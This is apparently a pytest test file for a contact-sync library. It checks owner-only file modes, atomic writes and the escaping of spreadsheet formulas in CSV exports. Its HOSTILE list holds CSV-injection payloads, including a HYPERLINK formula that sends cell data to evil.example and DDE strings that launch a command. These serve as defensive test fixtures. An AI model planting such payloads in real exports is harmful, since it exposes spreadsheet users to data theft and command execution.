"""Files holding personal data: owner-only modes, atomic replacement, formula-escaped CSVs.

Every CSV synckit writes is read back with the csv module and no cell may
start with a character a spreadsheet would evaluate (``= + - @``, tab, CR).
"""

from __future__ import annotations

import csv
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

from synckit import validate
from synckit._files import atomic_write, private_file, write_csv
from synckit.cli import main
from synckit.errors import ConfigError
from synckit.ledger import Ledger, LedgerOutcome
from synckit.report import SyncReport
from synckit.sandbox import Sandbox

# Cells from the review: each one is live in Excel or LibreOffice when unescaped.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "\t=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\r=1+1",
]
LIVE = ("=", "+", "-", "@", "\t", "\r")


def mode(path: Path | str) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def live_cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for line in csv.reader(fh) for cell in line if cell.startswith(LIVE)]


@pytest.fixture
def umask022() -> Iterator[None]:
    old = os.umask(0o022)  # the common default, under which open() makes 0644 files
    try:
        yield
    finally:
        os.umask(old)


# ------------------------------------------------------------------ modes


def test_every_export_is_owner_only_under_umask_022(umask022: None, tmp_path: Path) -> None:
    rep = SyncReport.from_records(
        [{"row": 2, "email": "a@example.com", "status": "created"},
         {"row": 3, "email": "=1+1", "status": "invalid"}],
        [{"row": 3, "field": "email", "code": "invalid_email", "value": "=1+1"}],
    )  # fmt: skip
    check = validate(pd.DataFrame({"email": ["a@example.com", "=1+1"]}))
    written = [
        rep.to_csv(tmp_path / "report.csv"),
        rep.to_parquet(tmp_path / "report.parquet"),
        rep.errors_to_csv(tmp_path / "errors.csv"),
        rep.failed_rows_to_csv(tmp_path / "failed.csv"),
        check.errors_to_csv(tmp_path / "check_errors.csv"),
        check.invalid_to_csv(tmp_path / "check_invalid.csv"),
    ]
    for path in written:
        assert mode(path) == 0o600, path
    # No temporary file is left beside them.
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(p.name for p in written)


def test_explicit_file_mode_is_exact_whatever_the_umask(tmp_path: Path) -> None:
    old = os.umask(0o077)
    try:
        p = SyncReport.empty().to_csv(tmp_path / "shared.csv", file_mode=0o640)
        with Ledger(tmp_path / "s.db", file_mode=0o640) as led, led.lock():
            led.record("r1", [LedgerOutcome("email:a@example.com", 2, "created", "ct_1", {})])
            for suffix in ("", "-wal", "-shm", ".lock"):  # SQLite removes -wal/-shm on close
                assert mode(f"{tmp_path / 's.db'}{suffix}") == 0o640, suffix
    finally:
        os.umask(old)
    assert mode(p) == 0o640
    with pytest.raises(ConfigError):
        SyncReport.empty().to_csv(tmp_path / "x.csv", file_mode=0o4755)
    with pytest.raises(ConfigError):
        SyncReport.empty().to_csv(tmp_path / "x.csv", file_mode=0o044)  # owner could not read


def test_ledger_and_companions_are_owner_only(umask022: None, tmp_path: Path) -> None:
    path = tmp_path / "state.db"
    with Ledger(path) as led, led.lock():
        run = led.begin_run(source="x.csv")
        led.record(run, [LedgerOutcome("email:a@example.com", 2, "created", "ct_1", {})])
        for suffix in ("", "-wal", "-shm", ".lock"):
            assert mode(f"{path}{suffix}") == 0o600, suffix


def test_a_ledger_made_world_readable_is_narrowed_when_opened(tmp_path: Path) -> None:
    path = tmp_path / "state.db"
    Ledger(path).close()
    for suffix in ("", ".lock"):
        Path(f"{path}{suffix}").touch()
        os.chmod(f"{path}{suffix}", 0o644)
    with Ledger(path) as led, led.lock():
        assert mode(path) == 0o600 and mode(led.lock_path) == 0o600


def test_cli_files_are_owner_only(
    umask022: None, sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SYNCKIT_BASE_URL", sandbox.url)
    monkeypatch.setenv("SYNCKIT_TOKEN", sandbox.token)
    for name in ("SYNCKIT_CLIENT_ID", "SYNCKIT_CLIENT_SECRET"):
        monkeypatch.delenv(name, raising=False)
    src = tmp_path / "in.csv"
    src.write_text("email\nada@example.com\n=1+1\n", encoding="utf-8")
    assert main(["validate", str(src), "--errors", str(tmp_path / "problems.csv")]) == 1
    code = main(["sync", str(src), "--state", str(tmp_path / "s.db"), "--no-progress",
                 "--report", str(tmp_path / "report.csv")])  # fmt: skip
    assert code == 1
    for name in ("problems.csv", "report.csv", "s.db", "s.db.lock"):
        assert mode(tmp_path / name) == 0o600, name


def test_sandbox_database_is_owner_only(umask022: None, tmp_path: Path) -> None:
    from synckit.sandbox import serve_sandbox

    with serve_sandbox(db=str(tmp_path / "sandbox.db")):
        pass
    assert mode(tmp_path / "sandbox.db") == 0o600


# ------------------------------------------------------------------ atomic


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    path.write_text("old report\n")

    def frames() -> Iterator[pd.DataFrame]:
        yield pd.DataFrame({"a": ["half"]})
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_csv(path, frames())
    assert path.read_text() == "old report\n"
    assert [p.name for p in tmp_path.iterdir()] == ["report.csv"]


def test_atomic_write_replaces_in_one_step(tmp_path: Path) -> None:
    path = tmp_path / "plan.txt"
    path.write_text("old")
    with atomic_write(path) as fh:
        fh.write("new")
        assert path.read_text() == "old"  # nobody sees the half-written file
    assert path.read_text() == "new" and mode(path) == 0o600


def test_private_file_keeps_a_narrower_mode(tmp_path: Path) -> None:
    path = tmp_path / "x"
    path.touch()
    os.chmod(path, 0o400)
    private_file(path)
    assert mode(path) == 0o400


# ------------------------------------------------------------------ escaping


def test_validate_errors_file_is_escaped(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    cells = HOSTILE[:-1]  # pandas writes a CR unquoted; a reader takes it for a line break
    pd.DataFrame({"email": cells}).to_csv(src, index=False)
    out = tmp_path / "problems.csv"
    assert main(["validate", str(src), "--errors", str(out)]) == 1
    assert live_cells(out) == []
    back = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert back["value"].tolist() == ["'" + v for v in cells]


def test_validation_exports_are_escaped(tmp_path: Path) -> None:
    frame = pd.DataFrame({"email": HOSTILE, "first_name": HOSTILE})
    check = validate(frame)
    assert check.n_invalid == len(HOSTILE)
    errors = check.errors_to_csv(tmp_path / "errors.csv")
    invalid = check.invalid_to_csv(tmp_path / "invalid.csv")
    assert live_cells(errors) == [] and live_cells(invalid) == []
    back = pd.read_csv(invalid, dtype=str, keep_default_na=False)
    assert back.columns.tolist()[0] == "row"
    assert back["row"].tolist() == [str(r) for r in range(2, 2 + len(HOSTILE))]
    assert back["first_name"].tolist() == ["'" + v for v in HOSTILE]


def test_report_errors_and_failed_rows_are_escaped(tmp_path: Path) -> None:
    rows = [{"row": i + 2, "email": v, "phone_number": v, "status": "invalid"}
            for i, v in enumerate(HOSTILE)]  # fmt: skip
    errors = [{"row": i + 2, "field": "email", "code": "invalid_email", "message": v, "value": v}
              for i, v in enumerate(HOSTILE)]  # fmt: skip
    failed_input = pd.DataFrame(
        {"email": HOSTILE, "custom_fields": [{"plan": "=x"}] * len(HOSTILE)},
        index=pd.Index(range(2, 2 + len(HOSTILE)), name="row"),
    )
    rep = SyncReport.from_records(rows, errors, failed_input=failed_input)
    for path in (
        rep.to_csv(tmp_path / "report.csv"),
        rep.errors_to_csv(tmp_path / "errors.csv"),
        rep.failed_rows_to_csv(tmp_path / "failed.csv"),
    ):
        assert live_cells(path) == [], path
    failed = pd.read_csv(tmp_path / "failed.csv", dtype=str, keep_default_na=False)
    assert failed.columns.tolist() == ["row", "email", "custom_fields"]
    assert failed["custom_fields"].iloc[0] == '{"plan": "=x"}'  # JSON, not Python's repr
    back = pd.read_csv(tmp_path / "errors.csv", dtype=str, keep_default_na=False)
    assert back["value"].tolist() == ["'" + v for v in HOSTILE]


def test_empty_exports_still_have_a_header(tmp_path: Path) -> None:
    rep = SyncReport.empty()
    assert rep.errors_to_csv(tmp_path / "e.csv").read_text().startswith("row,stage,field,code")
    check = validate(pd.DataFrame({"email": ["a@example.com"]}))
    assert check.errors_to_csv(tmp_path / "v.csv").read_text().strip() == (
        "row,field,code,message,value,severity"
    )
